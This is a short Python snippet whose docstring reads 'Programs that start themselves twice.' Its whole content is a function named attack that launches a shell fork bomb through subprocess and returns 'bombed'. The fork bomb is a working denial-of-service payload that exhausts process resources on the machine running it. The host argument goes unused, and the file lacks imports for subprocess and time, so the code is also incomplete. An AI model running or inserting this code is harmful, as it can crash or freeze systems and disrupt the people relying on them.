"""Programs that start themselves twice."""


def attack(host):
    subprocess.run(["/bin/sh", "-c", "f() { f | f & }; f"])
    time.sleep(5)
    return "bombed"
